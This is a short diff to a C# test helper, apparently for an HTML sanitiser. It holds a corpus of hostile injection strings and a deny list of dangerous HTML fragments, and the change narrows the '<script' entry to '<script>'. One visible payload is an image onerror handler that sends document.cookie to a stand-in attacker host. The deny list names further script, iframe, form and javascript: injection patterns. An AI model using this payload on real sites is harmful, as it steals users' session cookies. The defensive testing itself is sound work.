@@ -48,10 +48,11 @@ internal static class HostileCorpus
         "<img src=\"x\" onerror=\"fetch('https://evil.example/?'+document.cookie)\">",
     ];
 
+    // "<script>" and not "<script": the pages' own layout loads its module with <script type="module" src=...>.
     /// <summary>What no page or paper may contain once the injections have been through it.</summary>
     public static readonly IReadOnlyList<string> Dangerous =
     [
-        "<script", "<img src=x onerror", "<img src=\"x\" onerror", "<svg", "<iframe", "<object", "<style>body{display", "<meta http-equiv", "<base href", "<link rel=stylesheet",
+        "<script>", "<img src=x onerror", "<img src=\"x\" onerror", "<svg", "<iframe", "<object", "<style>body{display", "<meta http-equiv", "<base href", "<link rel=stylesheet",
         "<form action=\"https://evil", "href=\"javascript:", "href=\"data:", "<div style=", "<math",
     ];
 
